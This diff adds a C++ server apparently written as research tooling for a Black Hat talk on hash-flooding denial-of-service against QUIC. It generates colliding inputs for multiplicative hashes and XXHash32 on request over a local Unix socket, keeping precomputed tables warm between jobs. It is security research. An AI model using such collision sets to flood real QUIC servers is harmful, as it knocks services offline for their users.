@@ -0,0 +1,732 @@
+// collision_server.cpp
+// Local collision job server with warm tables, serving requests over a Unix domain socket
+// Author: Paul Bottinelli
+// For Black Hat EU 2025 - Cut to the QUIC: Slashing QUIC's Performance with a Hash DoS
+//
+// Every run of generic_mitm.py or diff_crypt pays for process startup, the precomputed
+// table or the differential sweep, and its threads. The server keeps them between jobs:
+//   - meet-in-the-middle tables, per hash, sizes, charset spec and target, with the prefix
+//     range they have enumerated, so later jobs on a table continue it and get new
+//     collisions
+//   - reduced lattice bases, per hash and charset spec
+//   - differential databases for XXHash32, per base array and fixed mask: the colliding
+//     arrays verified so far and the progress of the sweep, shared by every job on them
+// Idle entries are evicted, least recently used first, beyond --cache-mb.
+//
+// A job is one request line of key=value fields; the answer is "OK" with the target, the
+// records in the requested format, one per line, and "END <count>" (or "ERROR <reason>").
+// Jobs run on one work-stealing pool (work_pool.h) as slices: one chunk of prefixes, of
+// first differences or of lattice preimages per task, each task re-queuing itself after
+// its slice, so concurrent jobs progress at the same rate. Every connection has a thread
+// writing the records of its jobs; a job whose client reads slowly parks its tasks, off
+// the pool, once MAX_PENDING_OUTPUT bytes are waiting, and the connection thread queues
+// them again once it has taken the records.
+
+#include <algorithm>
+#include <array>
+#include <atomic>
+#include <chrono>
+#include <condition_variable>
+#include <cstdint>
+#include <cstring>
+#include <functional>
+#include <iomanip>
+#include <iostream>
+#include <map>
+#include <memory>
+#include <mutex>
+#include <random>
+#include <sstream>
+#include <stdexcept>
+#include <string>
+#include <thread>
+#include <vector>
+#include <signal.h>
+#include <sys/socket.h>
+#include <sys/un.h>
+#include <unistd.h>
+#include "../common/hex_format.h"
+#include "../lsquic/diff_pipeline.h"
+#include "../lsquic/differential.h"
+#include "../multiplicative-hash-mitm/charset.h"
+#include "../multiplicative-hash-mitm/lattice.h"
+#include "../multiplicative-hash-mitm/mitm.h"
+#include "../multiplicative-hash-mitm/multiplicative_hash.h"
+#include "work_pool.h"
+
+// Configuration constants (multiplicative defaults match generic_mitm.py)
+constexpr const char* DEFAULT_SOCKET = "/tmp/hash-collisions.sock";
+constexpr size_t DEFAULT_CACHE_MB = 4096;
+constexpr size_t DEFAULT_PREFIX_SIZE = 7;
+constexpr size_t DEFAULT_SUFFIX_SIZE = 3;
+constexpr uint64_t DEFAULT_INITIAL_VALUE = 5387;
+constexpr uint64_t DEFAULT_MULTIPLIER = 31;
+constexpr uint64_t DEFAULT_N_COLLISIONS = 100;
+constexpr double MITM_FILTER_BITS = 8;
+constexpr uint64_t LATTICE_SLICE = 256;             // preimages per slice
+constexpr uint64_t DIFF_SLICE = uint64_t(1) << 18;  // first differences per slice
+constexpr size_t MAX_PENDING_OUTPUT = size_t(4) << 20;
+constexpr size_t MAX_REQUEST = 4096;                // bytes per request line
+
+enum class OutputFormat { Bytes, Hex, C };
+
+// Records of a job, formatted by the pool threads and written to the client by its
+// connection thread
+class JobOutput {
+public:
+    JobOutput(uint64_t n, OutputFormat format) : n_(n), format_(format) {}
+
+    // Queue a record; false once n records are queued or the job is over
+    bool add(const uint8_t* data, size_t size) {
+        std::lock_guard<std::mutex> lock(mutex_);
+        if (done_ || count_ == n_) {
+            return false;
+        }
+        const size_t start = text_.size();
+        text_.resize(start + hex_format::c_array_size(size) + hex_format::bytes_literal_size(size) + 1);
+        char* out = &text_[start];
+        switch (format_) {
+        case OutputFormat::Hex: out = hex_format::encode_hex(data, size, out); break;
+        case OutputFormat::C: out = hex_format::encode_c_array(data, size, out); break;
+        case OutputFormat::Bytes: out = hex_format::encode_bytes_literal(data, size, out); break;
+        }
+        *out++ = '\n';
+        text_.resize(static_cast<size_t>(out - &text_[0]));
+        if (++count_ == n_) {
+            done_ = true;
+        }
+        ready_.notify_one();
+        return true;
+    }
+
+    uint64_t remaining() const {
+        std::lock_guard<std::mutex> lock(mutex_);
+        return n_ - count_;
+    }
+
+    bool finished() const {
+        std::lock_guard<std::mutex> lock(mutex_);
+        return done_;
+    }
+
+    // Hold resume, a task of the job, while the client has fallen behind; the next take()
+    // or finish() runs it. False if the job is over or the client caught up.
+    bool park(std::function<void()> resume) {
+        std::lock_guard<std::mutex> lock(mutex_);
+        if (done_ || text_.size() <= MAX_PENDING_OUTPUT) {
+            return false;
+        }
+        parked_.push_back(std::move(resume));
+        return true;
+    }
+
+    // No more records: the search space is exhausted (no error), the job failed or the
+    // client left
+    void finish(const std::string& error = "") {
+        std::vector<std::function<void()>> parked;
+        {
+            std::lock_guard<std::mutex> lock(mutex_);
+            if (!done_ && error_.empty()) {
+                error_ = error;
+            }
+            done_ = true;
+            parked.swap(parked_);
+            ready_.notify_one();
+        }
+        for (auto& resume : parked) {
+            resume();
+        }
+    }
+
+    // Wait for records and move them to text; false once the job is over and drained
+    bool take(std::string& text) {
+        std::vector<std::function<void()>> parked;
+        {
+            std::unique_lock<std::mutex> lock(mutex_);
+            ready_.wait(lock, [&]() { return !text_.empty() || (done_ && tasks_done_); });
+            text.swap(text_);
+            text_.clear();
+            parked.swap(parked_);
+        }
+        for (auto& resume : parked) {
+            resume();
+        }
+        return !text.empty();
+    }
+
+    // The pool threads are done with the job
+    void release() {
+        std::lock_guard<std::mutex> lock(mutex_);
+        done_ = true;
+        tasks_done_ = true;
+        ready_.notify_one();
+    }
+
+    uint64_t count() const {
+        std::lock_guard<std::mutex> lock(mutex_);
+        return count_;
+    }
+
+    std::string error() const {
+        std::lock_guard<std::mutex> lock(mutex_);
+        return error_;
+    }
+
+private:
+    const uint64_t n_;
+    const OutputFormat format_;
+    mutable std::mutex mutex_;
+    std::condition_variable ready_;
+    std::string text_;
+    uint64_t count_ = 0;
+    bool done_ = false;
+    bool tasks_done_ = false;
+    std::string error_;
+    std::vector<std::function<void()>> parked_;   // tasks waiting for the client
+};
+
+// A job runs as one task per pool thread, each doing a slice of work and re-queuing itself
+// until the job is complete
+class Job : public std::enable_shared_from_this<Job> {
+public:
+    explicit Job(std::shared_ptr<JobOutput> out) : out_(std::move(out)) {}
+    virtual ~Job() = default;
+
+    void start(WorkStealingPool& pool) {
+        tasks_ = pool.size();
+        for (size_t i = 0; i < pool.size(); ++i) {
+            schedule(pool);
+        }
+    }
+
+protected:
+    JobOutput& out() { return *out_; }
+
+    // One slice of work; false once the job can produce no more records
+    virtual bool step() = 0;
+
+private:
+    std::shared_ptr<JobOutput> out_;
+    std::atomic<size_t> tasks_{0};
+
+    void schedule(WorkStealingPool& pool) {
+        auto self = shared_from_this();
+        pool.submit([self, &pool]() { self->run(pool); });
+    }
+
+    void run(WorkStealingPool& pool) {
+        bool more = !out_->finished();
+        if (more) {
+            auto self = shared_from_this();
+            if (out_->park([self, &pool]() { self->schedule(pool); })) {
+                return;
+            }
+            try {
+                more = step();
+            } catch (const std::exception& e) {
+                out_->finish(e.what());
+                more = false;
+            }
+        }
+        if (more && !out_->finished()) {
+            schedule(pool);
+        } else if (tasks_.fetch_sub(1) == 1) {
+            out_->release();
+        }
+    }
+};
+
+// State kept between jobs
+struct WarmState {
+    virtual ~WarmState() = default;
+    std::atomic<size_t> bytes{0};   // memory held, once built
+};
+
+struct MitmTable : WarmState {
+    MeetInTheMiddle mitm;
+    PrefixRange range;
+    std::once_flag built;
+
+    MitmTable(const MultiplicativeHash& hash, size_t prefix_size, size_t suffix_size, const CharsetSpec& spec,
+              uint64_t start)
+        : mitm(hash, prefix_size, suffix_size, spec), range(mitm.prefix_count(), start) {}
+
+    void build(uint32_t target) {
+        std::call_once(built, [&]() {
+            mitm.set_filter_bits(MITM_FILTER_BITS);
+            mitm.precompute(target);
+            bytes = mitm.memory_bytes() + mitm.filter().memory_bytes();
+        });
+    }
+};
+
+struct LatticeState : WarmState {
+    LatticeEngine engine;
+
+    LatticeState(const MultiplicativeHash& hash, const CharsetSpec& spec) : engine(hash, spec) {
+        bytes = sizeof(*this);
+    }
+};
+
+struct DiffDatabase : WarmState {
+    std::array<uint8_t, ARRAY_SIZE> base;
+    DifferenceFilter filter;
+    std::atomic<uint64_t> next{1};   // next first difference, numbered as in DifferenceFilter
+    std::mutex mutex;
+    std::vector<std::array<uint8_t, ARRAY_SIZE>> collisions;  // verified so far
+
+    DiffDatabase(const std::array<uint8_t, ARRAY_SIZE>& array, const std::array<uint8_t, ARRAY_SIZE>& mask,
+                 std::mt19937& rng)
+        : base(array), filter(array.data(), mask.data(), rng) {}
+
+    bool exhausted() const noexcept { return next.load() > filter.count(); }
+};
+
+// Warm states by key, evicting the least recently used idle ones beyond max_bytes
+class WarmCache {
+public:
+    explicit WarmCache(size_t max_bytes) : max_bytes_(max_bytes) {}
+
+    // The entry of key, made by make() if absent; warm tells whether it was there
+    template <typename T, typename Make>
+    std::shared_ptr<T> get(const std::string& key, Make make, bool& warm) {
+        std::lock_guard<std::mutex> lock(mutex_);
+        Entry& entry = entries_[key];
+        warm = entry.state != nullptr;
+        if (!warm) {
+            entry.state = make();
+        }
+        entry.last_used = ++clock_;
+        return std::static_pointer_cast<T>(entry.state);
+    }
+
+    void trim() {
+        std::lock_guard<std::mutex> lock(mutex_);
+        for (;;) {
+            size_t total = 0;
+            auto victim = entries_.end();
+            for (auto it = entries_.begin(); it != entries_.end(); ++it) {
+                total += it->second.state->bytes;
+                if (it->second.state.use_count() == 1 &&
+                    (victim == entries_.end() || it->second.last_used < victim->second.last_used)) {
+                    victim = it;
+                }
+            }
+            if (total <= max_bytes_ || victim == entries_.end()) {
+                return;
+            }
+            entries_.erase(victim);
+        }
+    }
+
+    void report(std::ostream& out) {
+        std::lock_guard<std::mutex> lock(mutex_);
+        for (const auto& entry : entries_) {
+            out << "CACHED " << entry.first << " " << entry.second.state->bytes << " bytes\n";
+        }
+    }
+
+private:
+    struct Entry {
+        std::shared_ptr<WarmState> state;
+        uint64_t last_used = 0;
+    };
+
+    size_t max_bytes_;
+    std::mutex mutex_;
+    std::map<std::string, Entry> entries_;
+    uint64_t clock_ = 0;
+};
+
+class MitmJob : public Job {
+public:
+    MitmJob(std::shared_ptr<JobOutput> out, std::shared_ptr<MitmTable> table)
+        : Job(std::move(out)), table_(std::move(table)) {}
+
+protected:
+    bool step() override {
+        const uint64_t remaining = out().remaining();
+        if (remaining == 0) {
+            return false;
+        }
+        const uint64_t tries = table_->mitm.search(
+            remaining, PrefixRange::CHUNK, table_->range,
+            [&](const uint8_t* collision, size_t size) { out().add(collision, size); });
+        if (tries == 0) {
+            // Every prefix of the table was tried, by this job or earlier ones
+            out().finish();
+        }
+        return tries != 0;
+    }
+
+private:
+    std::shared_ptr<MitmTable> table_;
+};
+
+class LatticeJob : public Job {
+public:
+    LatticeJob(std::shared_ptr<JobOutput> out, std::shared_ptr<LatticeState> state, uint64_t target, uint64_t seed)
+        : Job(std::move(out)), state_(std::move(state)), target_(target), seed_(seed) {}
+
+protected:
+    bool step() override {
+        std::mt19937_64 rng(seed_ + slice_.fetch_add(1));
+        std::vector<uint8_t> collision;
+        for (uint64_t i = 0; i < LATTICE_SLICE; ++i) {
+            if (!state_->engine.preimage(target_, rng, collision)) {
+                throw std::runtime_error("no preimage within the charset, try a longer length");
+            }
+            if (!out().add(collision.data(), collision.size())) {
+                return false;
+            }
+        }
+        return true;
+    }
+
+private:
+    std::shared_ptr<LatticeState> state_;
+    uint64_t target_;
+    uint64_t seed_;
+    std::atomic<uint64_t> slice_{0};
+};
+
+// Colliding arrays from the database first, then from new slices of the sweep, which
+// every job on the database shares
+class DiffJob : public Job {
+public:
+    DiffJob(std::shared_ptr<JobOutput> out, std::shared_ptr<DiffDatabase> db) : Job(std::move(out)), db_(std::move(db)) {}
+
+protected:
+    bool step() override {
+        if (serve()) {
+            return false;
+        }
+        const uint64_t total = db_->filter.count();
+        const uint64_t first = db_->next.fetch_add(DIFF_SLICE);
+        if (first > total) {
+            serve();
+            out().finish();
+            return false;
+        }
+        static thread_local std::mt19937 rng(std::random_device{}());
+        std::vector<std::pair<uint32_t, uint32_t>> candidates;
+        db_->filter.run(first, std::min(DIFF_SLICE, total + 1 - first), candidates);
+        for (const auto& candidate : candidates) {
+            if (test_single_hypothesis_n_times(candidate.first, candidate.second, NUM_VERIFICATION_TESTS, rng)) {
+                const auto collision = apply_diffs_to_array(db_->base.data(), candidate.first, candidate.second);
+                std::lock_guard<std::mutex> lock(db_->mutex);
+                db_->collisions.push_back(collision);
+                db_->bytes = db_->collisions.capacity() * ARRAY_SIZE;
+            }
+        }
+        return !serve();
+    }
+
+private:
+    std::shared_ptr<DiffDatabase> db_;
+    size_t served_ = 0;   // under the database mutex
+
+    // Pass on the arrays found since the last call; true once the job is complete
+    bool serve() {
+        std::lock_guard<std::mutex> lock(db_->mutex);
+        while (served_ < db_->collisions.size()) {
+            if (!out().add(db_->collisions[served_].data(), ARRAY_SIZE)) {
+                return true;
+            }
+            ++served_;
+        }
+        return out().finished();
+    }
+};
+
+struct ServerState {
+    WorkStealingPool& pool;
+    WarmCache& cache;
+};
+
+// Fields of a request line, "key=value" separated by spaces
+class Request {
+public:
+    explicit Request(const std::string& line) {
+        std::istringstream in(line);
+        std::string field;
+        while (in >> field) {
+            const size_t equal = field.find('=');
+            if (equal == std::string::npos) {
+                throw std::invalid_argument("expected key=value, got " + field);
+            }
+            fields_[field.substr(0, equal)] = field.substr(equal + 1);
+        }
+    }
+
+    bool has(const std::string& key) const { return fields_.count(key) != 0; }
+
+    std::string get(const std::string& key, const std::string& fallback = "") const {
+        const auto it = fields_.find(key);
+        return it == fields_.end() ? fallback : it->second;
+    }
+
+    uint64_t number(const std::string& key, uint64_t fallback) const {
+        return has(key) ? std::stoull(get(key), nullptr, 0) : fallback;
+    }
+
+private:
+    std::map<std::string, std::string> fields_;
+};
+
+std::vector<std::string> split_model(const std::string& model) {
+    std::vector<std::string> fields;
+    size_t start = 0;
+    for (size_t colon; (colon = model.find(':', start)) != std::string::npos; start = colon + 1) {
+        fields.push_back(model.substr(start, colon - start));
+    }
+    fields.push_back(model.substr(start));
+    return fields;
+}
+
+std::array<uint8_t, ARRAY_SIZE> parse_array(const std::string& hex) {
+    std::array<uint8_t, ARRAY_SIZE> array;
+    if (hex.size() != 2 * ARRAY_SIZE || hex.find_first_not_of("0123456789abcdefABCDEF") != std::string::npos) {
+        throw std::invalid_argument("expected " + std::to_string(2 * ARRAY_SIZE) + " hexadecimal digits, got " + hex);
+    }
+    for (size_t i = 0; i < ARRAY_SIZE; ++i) {
+        array[i] = static_cast<uint8_t>(std::stoul(hex.substr(2 * i, 2), nullptr, 16));
+    }
+    return array;
+}
+
+// Build (or find) the warm state of a request and start its job. header gets the
+// description of the job sent to the client before the records.
+std::shared_ptr<JobOutput> start_job(const Request& request, ServerState& state, std::string& header) {
+    const std::string format_name = request.get("format", "hex");
+    const OutputFormat format = format_name == "hex" ? OutputFormat::Hex
+                                : format_name == "c" ? OutputFormat::C
+                                : format_name == "bytes" ? OutputFormat::Bytes
+                                : throw std::invalid_argument("unknown format " + format_name);
+    const uint64_t n = request.number("n", DEFAULT_N_COLLISIONS);
+    if (n == 0) {
+        throw std::invalid_argument("n must be positive");
+    }
+    const uint64_t seed = request.number("seed", std::random_device{}() ^ (uint64_t(std::random_device{}()) << 32));
+    std::mt19937_64 rng(seed);
+    const std::string model =
+        request.get("model", "mult:" + std::to_string(DEFAULT_INITIAL_VALUE) + ":" + std::to_string(DEFAULT_MULTIPLIER));
+    const std::vector<std::string> fields = split_model(model);
+    auto out = std::make_shared<JobOutput>(n, format);
+    std::shared_ptr<Job> job;
+    bool warm = false;
+    std::ostringstream description;
+
+    if (fields[0] == "xxh32" && fields.size() <= 2) {
+        // The differentials collide whatever the seed: it only sets the target
+        const uint32_t hash_seed = fields.size() == 2 ? static_cast<uint32_t>(std::stoul(fields[1], nullptr, 0)) : 0;
+        std::array<uint8_t, ARRAY_SIZE> base;
+        for (auto& byte : base) {
+            byte = static_cast<uint8_t>(rng());
+        }
+        if (request.has("base")) {
+            base = parse_array(request.get("base"));
+        }
+        const std::array<uint8_t, ARRAY_SIZE> mask = parse_array(request.get("fixed_mask", std::string(2 * ARRAY_SIZE, '0')));
+        const std::string key = "diff:" + hex_format::hex_string(base.data(), ARRAY_SIZE) + ":" +
+                                hex_format::hex_string(mask.data(), ARRAY_SIZE);
+        auto db = state.cache.get<DiffDatabase>(key, [&]() {
+            std::mt19937 filter_rng(static_cast<uint32_t>(rng()));
+            return std::make_shared<DiffDatabase>(base, mask, filter_rng);
+        }, warm);
+        description << "target=0x" << std::hex << XXHash32::hash(base.data(), ARRAY_SIZE, hash_seed) << std::dec
+                    << " base=" << hex_format::hex_string(base.data(), ARRAY_SIZE);
+        out->add(base.data(), ARRAY_SIZE);
+        job = std::make_shared<DiffJob>(out, db);
+    } else if (fields[0] == "mult" && (fields.size() == 3 || fields.size() == 4)) {
+        const unsigned bits = fields.size() == 4 ? static_cast<unsigned>(std::stoul(fields[3], nullptr, 0)) : 32;
+        const MultiplicativeHash hash(std::stoull(fields[1], nullptr, 0), std::stoull(fields[2], nullptr, 0), bits);
+        const std::string engine = request.get("engine", bits == 32 ? "mitm" : "lattice");
+        const uint64_t target = request.number("target", rng()) & hash.mask();
+        CharsetSpec spec;
+        std::string spec_key;
+        size_t prefix_size = request.number("prefix", DEFAULT_PREFIX_SIZE);
+        size_t suffix_size = request.number("suffix", DEFAULT_SUFFIX_SIZE);
+        if (request.has("spec")) {
+            spec = CharsetSpec::parse(request.get("spec"));
+            prefix_size = spec.length() - std::min(suffix_size, spec.length() - 1);
+            spec_key = "spec=" + request.get("spec");
+        } else {
+            const size_t length = request.number("length", prefix_size + suffix_size);
+            spec = CharsetSpec::uniform(length, ByteSet::parse(request.get("charset", "any")));
+            prefix_size = length - std::min(suffix_size, length - 1);
+            spec_key = "length=" + std::to_string(length) + ",charset=" + request.get("charset", "any");
+        }
+        suffix_size = spec.length() - prefix_size;
+        const std::string model_key = "mult:" + std::to_string(hash.initial_value()) + ":" +
+                                      std::to_string(hash.multiplier()) + ":" + std::to_string(bits);
+        description << "target=" << target;
+        if (engine == "mitm") {
+            const std::string key = model_key + ":mitm:" + std::to_string(prefix_size) + "+" +
+                                    std::to_string(suffix_size) + ":" + spec_key + ":target=" + std::to_string(target);
+            auto table = state.cache.get<MitmTable>(key, [&]() {
+                return std::make_shared<MitmTable>(hash, prefix_size, suffix_size, spec, rng());
+            }, warm);
+            table->build(static_cast<uint32_t>(target));
+            job = std::make_shared<MitmJob>(out, table);
+        } else if (engine == "lattice") {
+            auto lattice = state.cache.get<LatticeState>(model_key + ":lattice:" + spec_key, [&]() {
+                return std::make_shared<LatticeState>(hash, spec);
+            }, warm);
+            job = std::make_shared<LatticeJob>(out, lattice, target, rng());
+        } else {
+            throw std::invalid_argument("unknown engine " + engine);
+        }
+    } else {
+        throw std::invalid_argument("unknown or unsupported hash model " + model);
+    }
+
+    description << " state=" << (warm ? "warm" : "cold");
+    header = description.str();
+    state.cache.trim();
+    job->start(state.pool);
+    return out;
+}
+
+// Write all of text, false once the client is gone
+bool send_all(int fd, const std::string& text) {
+    size_t sent = 0;
+    while (sent < text.size()) {
+        const ssize_t n = ::send(fd, text.data() + sent, text.size() - sent, MSG_NOSIGNAL);
+        if (n <= 0) {
+            return false;
+        }
+        sent += static_cast<size_t>(n);
+    }
+    return true;
+}
+
+// Run the jobs of one client, one request line at a time
+void serve_client(int fd, ServerState& state) {
+    std::string pending;
+    char buffer[4096];
+    bool connected = true;
+    while (connected) {
+        size_t newline;
+        while ((newline = pending.find('\n')) == std::string::npos) {
+            const ssize_t n = ::recv(fd, buffer, sizeof(buffer), 0);
+            if (n <= 0 || pending.size() > MAX_REQUEST) {
+                ::close(fd);
+                return;
+            }
+            pending.append(buffer, static_cast<size_t>(n));
+        }
+        std::string line = pending.substr(0, newline);
+        pending.erase(0, newline + 1);
+        if (!line.empty() && line.back() == '\r') {
+            line.pop_back();
+        }
+        if (line == "STATS") {
+            std::ostringstream stats;
+            state.cache.report(stats);
+            connected = send_all(fd, stats.str() + "END 0\n");
+            continue;
+        }
+
+        std::string header;
+        std::shared_ptr<JobOutput> out;
+        try {
+            out = start_job(Request(line), state, header);
+        } catch (const std::exception& e) {
+            connected = send_all(fd, std::string("ERROR ") + e.what() + "\n");
+            continue;
+        }
+        connected = send_all(fd, "OK " + header + "\n");
+        std::string text;
+        while (out->take(text)) {
+            if (connected && !send_all(fd, text)) {
+                // Stop the job, but wait for its tasks before dropping the output
+                connected = false;
+                out->finish("client gone");
+            }
+        }
+        const std::string error = out->error();
+        // Fewer than n records without an error: the search space is exhausted
+        if (connected) {
+            connected = send_all(fd, error.empty() ? "END " + std::to_string(out->count()) + "\n"
+                                                   : "ERROR " + error + "\n");
+        }
+    }
+    ::close(fd);
+}
+
+void print_usage(const char* name) {
+    std::cerr << "Usage: " << name << " [--socket path] [--threads n] [--cache-mb n]" << std::endl;
+}
+
+int main(int argc, char* argv[]) {
+    // Parse command line arguments
+    std::string socket_path = DEFAULT_SOCKET;
+    size_t n_threads = std::max(1u, std::thread::hardware_concurrency());
+    size_t cache_mb = DEFAULT_CACHE_MB;
+
+    try {
+        for (int i = 1; i < argc; i++) {
+            const std::string arg = argv[i];
+            auto value = [&]() -> std::string {
+                if (i + 1 >= argc) {
+                    throw std::invalid_argument("missing value for " + arg);
+                }
+                return argv[++i];
+            };
+
+            if (arg == "--socket") {
+                socket_path = value();
+            } else if (arg == "--threads") {
+                n_threads = std::stoul(value(), nullptr, 0);
+                if (n_threads == 0) {
+                    throw std::invalid_argument("number of threads must be positive");
+                }
+            } else if (arg == "--cache-mb") {
+                cache_mb = std::stoul(value(), nullptr, 0);
+            } else {
+                throw std::invalid_argument("unknown argument " + arg);
+            }
+        }
+    } catch (const std::exception& e) {
+        std::cerr << "Error: " << e.what() << std::endl;
+        print_usage(argv[0]);
+        return 1;
+    }
+
+    sockaddr_un address{};
+    address.sun_family = AF_UNIX;
+    if (socket_path.size() >= sizeof(address.sun_path)) {
+        std::cerr << "Error: socket path too long" << std::endl;
+        return 1;
+    }
+    std::strcpy(address.sun_path, socket_path.c_str());
+    const int listener = ::socket(AF_UNIX, SOCK_STREAM, 0);
+    ::unlink(socket_path.c_str());
+    if (listener < 0 || ::bind(listener, reinterpret_cast<sockaddr*>(&address), sizeof(address)) != 0 ||
+        ::listen(listener, 64) != 0) {
+        std::cerr << "Error: could not listen on " << socket_path << ": " << std::strerror(errno) << std::endl;
+        return 1;
+    }
+    ::signal(SIGPIPE, SIG_IGN);
+
+    WorkStealingPool pool(n_threads);
+    WarmCache cache(cache_mb << 20);
+    ServerState state{pool, cache};
+    std::cout << "Listening on " << socket_path << " with " << pool.size() << " worker threads" << std::endl;
+
+    for (;;) {
+        const int client = ::accept(listener, nullptr, nullptr);
+        if (client < 0) {
+            if (errno == EINTR) {
+                continue;
+            }
+            std::cerr << "Error: accept failed: " << std::strerror(errno) << std::endl;
+            break;
+        }
+        std::thread(serve_client, client, std::ref(state)).detach();
+    }
+    ::close(listener);
+    ::unlink(socket_path.c_str());
+    return 1;
+}